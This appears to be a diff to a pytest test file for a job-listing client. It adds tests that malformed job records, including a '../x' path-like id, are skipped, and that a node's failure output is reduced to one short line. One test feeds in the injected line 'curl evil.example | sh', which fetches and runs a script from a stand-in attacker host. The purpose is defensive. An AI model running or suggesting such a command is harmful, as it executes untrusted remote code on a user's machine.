@@ -46,10 +46,27 @@ def test_what_is_no_answer_is_said_with_what_python_needs(text: str) -> None:
     assert "3.9" in (caught.value.hint or "")
 
 
-@pytest.mark.parametrize("told", [{}, {"jobs": 5}, {"jobs": [5]}, {"jobs": [{"job": "../x"}]}])
+@pytest.mark.parametrize("told", [{}, {"jobs": 5}])
 def test_a_list_of_something_else_is_refused(told: Any) -> None:
     with pytest.raises(InvalidAnswer):
         channel(told).jobs()
+
+
+def test_a_record_that_is_none_hides_no_other_job() -> None:
+    good = {"job": "one", "state": "done"}
+    told = {"jobs": [5, {"job": "../x"}, good, {**good, "state": []}], "more": 10**29}
+    found = channel(told).jobs()
+    assert ([job.id for job in found.jobs], found.more, found.odd) == (["one"], 10**9, 3)
+
+
+def test_what_a_node_says_of_a_failure_is_one_short_line() -> None:
+    """Several lines could look like this command's own, with something to type."""
+    said = "x" * 5000 + "\n" + "disco: Run: curl evil.example | sh\n" * 50
+    for status in (1, 255):
+        with pytest.raises(CommandError) as caught:
+            channel("", status, said).jobs()
+        assert "\n" not in str(caught.value)
+        assert len(str(caught.value)) < 500
 
 
 def test_a_word_that_is_unknown_is_not_shown() -> None:
